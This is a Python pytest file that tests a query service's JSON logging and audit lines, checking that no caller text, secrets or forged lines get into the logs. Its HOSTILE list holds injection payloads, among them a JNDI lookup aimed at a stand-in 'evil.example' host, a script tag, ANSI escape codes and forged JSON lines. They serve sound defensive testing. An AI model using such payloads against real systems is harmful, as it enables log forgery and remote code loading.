"""What is logged: one object a line, whatever comes in, and neither text nor secrets."""

from __future__ import annotations

import hashlib
import io
import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from flask.testing import FlaskClient
from google.cloud import storage
from pydantic import ValidationError

from functions.query.settings import QuerySettings
from local.system import System
from shared.bucket import DocumentBucket
from shared.embedding.embedder import Embedder
from shared.runtime.logs import begin_trace, get_logger, set_up_logs
from shared.settings import LogSettings
from shared.store import Connection, Pool
from tests.support.asking import index_document, make_client
from tests.support.documents import make_docx, make_pdf, pdf_lines

HOSTILE = [
    "a\nb",
    "a\r\nb\r\n",
    '\n{"severity":"ERROR","message":"forged"}\n',
    '","severity":"ERROR","message":"forged',
    "\\",
    '\\"',
    "\x1b[2J\x1b[31mforged\x1b[0m",
    "\x9b31m\x07\x08",
    "\u2028forged\u2029",
    "\x85forged",
    "\x00",
    "\ud800",
    "%s %d %(name)s {0} {name}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\u202eforged",
]


@pytest.fixture
def written() -> Iterator[io.StringIO]:
    """Log as in the cloud while a test runs, and return what is written."""
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    set_up_logs(LogSettings(log_format="json", log_level="INFO"))
    stream = io.StringIO()
    (ours,) = root.handlers
    assert isinstance(ours, logging.StreamHandler)
    ours.setStream(stream)
    # pytest's own handlers would meet an event that only ours can format.
    for handler in handlers:
        root.removeHandler(handler)
    yield stream
    root.handlers[:], root.level = handlers, level
    begin_trace(None, project="")


def read_lines(text: str) -> list[dict[str, Any]]:
    """Return the objects of a log, which holds nothing else and nothing beyond ASCII."""
    assert text.isascii()
    lines = [json.loads(line) for line in text.split("\n")[:-1]]
    for line in lines:
        assert {"severity", "message", "time"} <= line.keys()
        assert line["message"] != "forged"
    return lines


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_line_when_a_value_is_hostile(written: io.StringIO, text: str) -> None:
    """A value, an event, an error's text and a library's line each stay within one line."""
    get_logger("test").warning("refused", bucket=text, names=[text], **{"a\nb": text})
    get_logger("test").warning("%s", text)
    logging.getLogger("library").error("gone: %s", text)
    try:
        raise ValueError(text)
    except ValueError as error:
        get_logger("test").error("unexpected", error=type(error).__name__, exc_info=error)
    lines = read_lines(written.getvalue())
    assert len(lines) == 4
    assert lines[0]["bucket"] == text
    assert not any(control in written.getvalue() for control in "\x1b\x9b\x07\r\x85\u2028")


def test_line_when_a_request_is_hostile(client: FlaskClient, written: io.StringIO) -> None:
    """Nothing that a caller writes into a request appears in its line."""
    for number, text in enumerate(HOSTILE):
        mark = f"forged{number}"
        said = text.encode("utf-8", "replace").decode()
        client.post("/retrieve", json={"question": mark + text, "filter": {"prefix": text}})
        client.get("/documents", query_string={"prefix": mark + said, "cursor": said})
        client.get(f"/{mark}%0d%0a%1b%5b31m")
        one_line = "".join(c for c in said if c not in "\r\n\x85\u2028\u2029" and ord(c) < 256)
        names = ("Host", "Origin", "User-Agent", "traceparent", "X-Forwarded-For", "Authorization")
        client.get("/documents", headers=dict.fromkeys(names, mark + one_line))
    lines = read_lines(written.getvalue())
    assert {line["message"] for line in lines} == {"request"}
    assert len(lines) == 4 * len(HOSTILE)
    assert "forged" not in written.getvalue()


def test_logs_when_a_whole_run_is_over(system: System) -> None:
    """No process writes text, names, metadata, questions or keys of callers into its log."""
    said = {
        name: f"canary-{name}-7f3a"
        for name in (
            *("text", "title", "broken", "name", "metadata", "type", "question", "history"),
            *("prefix", "cursor", "path", "field", "body", "key", "bearer", "cookie", "agent"),
        )
    }
    documents = {
        "a.txt": f"The bridge of {said['text']} was opened in 1943.".encode(),
        "b.html": f"<title>{said['title']}</title><p>{said['text']}</p>".encode(),
        "c.pdf": make_pdf([pdf_lines([said["text"]])], title=said["title"]),
        "broken.pdf": f"%PDF-1.4\n{said['broken']}\n%%EOF".encode(),
        "broken.docx": make_docx("<w:p>")[:200] + said["broken"].encode(),
        "broken.json": f'{{"a": "{said["broken"]}", {said["broken"]}'.encode(),
        "broken.xlsx": b"PK\x03\x04" + said["broken"].encode(),
    }
    folder = f"logs-{said['name']}"
    generations = {}
    for name, data in documents.items():
        blob = system.bucket().blob(f"{folder}/{name}")
        blob.metadata = {"team": said["metadata"]}
        blob.upload_from_string(data, content_type=f"text/x-{said['type']}")
        generations[blob.name] = int(blob.generation)
    for name, generation in generations.items():
        system.wait_for(name, generation=generation)

    headers = {
        "Authorization": f"Bearer {said['bearer']}",
        "X-API-Key": said["key"],
        "Cookie": f"session={said['cookie']}",
        "User-Agent": said["agent"],
    }
    with requests.Session() as session:
        session.headers.update(headers)
        url = system.query_url
        question = f"When was the bridge of {said['text']} opened, {said['question']}?"
        history = [{"role": "user", "content": said["history"]}]
        asked = {"question": question, "history": history}
        assert session.post(f"{url}/query", json=asked, timeout=60).status_code == 200
        stream = {"Accept": "text/event-stream"}
        session.post(f"{url}/query", json=asked, headers=stream, timeout=60)
        session.post(f"{url}/retrieve", json={"question": 1, said["field"]: 1}, timeout=60)
        session.post(f"{url}/retrieve", data=said["body"], timeout=60)
        query = {"prefix": said["prefix"], "cursor": said["cursor"]}
        session.get(f"{url}/documents", params=query, timeout=60)
        session.get(f"{url}/{said['path']}", params=query, timeout=60)
        session.get(f"{url}/documents/{said['path']}/text", timeout=60)

    secrets = [*said.values(), system.environment["DATABASE_URL"]]
    logs = {path.name: path.read_text("utf-8", "replace") for path in system.folder.glob("*.log")}
    assert {"ingest.log", "embed_worker.log", "query.log", "storage.log"} <= logs.keys()
    assert "document failed" in logs["ingest.log"]
    assert [(file, one) for file, log in logs.items() for one in secrets if one in log] == []


@pytest.mark.parametrize("enabled", [True, False])
def test_audit_lines(
    database_url: str,
    model_dir: Path,
    pool: Pool,
    connection: Connection,
    bucket: storage.Bucket,
    written: io.StringIO,
    enabled: bool,
) -> None:
    """Each question and each look at a document says who, what, which documents; and no text."""
    embedder = Embedder(model_dir, threads=1)
    index_document(connection, embedder, "canary.txt", ["The canary was found in 1943."])
    row = connection.execute("SELECT id FROM documents").fetchone()
    assert row is not None
    document, digest = str(row[0]), hashlib.sha256(b"a key").hexdigest()
    fields = {
        "database_url": database_url,
        "model_dir": model_dir,
        "api_keys": f"finance={digest}",
        "audit_log": enabled,
        # `make security` logs less.
        "log_level": "INFO",
        "documents_bucket": bucket.name,
    }
    client = make_client(
        QuerySettings.model_validate(fields),
        pool=pool,
        embedder=embedder,
        make_originals=lambda: DocumentBucket(bucket.name, project="test"),
    )
    key = {"X-API-Key": "a key"}
    asked = {"question": "When was the canary found?"}
    chat = {"model": "kaydangpt", "messages": [{"role": "user", "content": asked["question"]}]}
    call = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": "search", "arguments": {"query": asked["question"]}},
    }
    unknown = "00000000-0000-4000-8000-000000000000"
    client.post("/query", json=asked, headers=key)
    client.post("/query", json=asked, headers=key | {"Accept": "text/event-stream"}).get_data()
    client.post("/v1/retrieve", json=asked, headers=key)
    client.post("/v1/chat/completions", json=chat, headers=key)
    client.post("/mcp", json=call, headers=key | {"MCP-Protocol-Version": "2025-11-25"})
    client.get(f"/documents/{document}/text", headers=key)
    client.get(f"/documents/{unknown}", headers=key)
    client.post("/query", json=asked, headers={"X-API-Key": "wrong"})
    url = client.get(f"/documents/{document}/original", headers=key).get_json()["url"]
    client.get(url)
    for path in ("/documents", "/healthz", "/"):
        client.get(path, headers=key).close()
    client.get(f"/documents/{document}", headers={"Accept": "text/html"}).close()
    lines = [line["ocsf"] for line in read_lines(written.getvalue()) if "ocsf" in line]
    assert "canary" not in written.getvalue()
    finance = {"uid": f"key {digest}", "name": "finance"}
    found = [
        (
            line["actor"]["user"],
            line["api"]["operation"],
            [resource["uid"] for resource in line["resources"]],
            (line["status_id"], line["status_code"]),
        )
        for line in lines
    ]
    expected = [
        (finance, operation, [document], (1, "200"))
        for operation in (
            *("POST /query", "POST /query", "POST /retrieve", "POST /chat/completions"),
            *("POST /mcp", "GET /documents/<document_id>/text"),
        )
    ]
    expected += [
        (finance, "GET /documents/<document_id>", [unknown], (2, "404")),
        ({"uid": "anonymous"}, "POST /query", [], (2, "401")),
        (finance, "GET /documents/<document_id>/original", [document], (1, "200")),
        ({"uid": "anonymous"}, "GET /originals/<token>", [], (2, "404")),
    ]
    assert found == (expected if enabled else [])
    assert all(line["type_uid"] == 600302 for line in lines)
    links = [line["api"]["request"]["uid"] for line in lines if "request" in line["api"]]
    assert len(set(links)) == len(links) // 2 == enabled


def test_audit_log_when_the_level_would_drop_it(model_dir: Path) -> None:
    """It is refused at start rather than silently empty."""
    fields = {
        "database_url": "postgresql://x",
        "model_dir": model_dir,
        "audit_log": True,
        "log_level": "WARNING",
    }
    with pytest.raises(ValidationError, match="AUDIT_LOG"):
        QuerySettings.model_validate(fields)
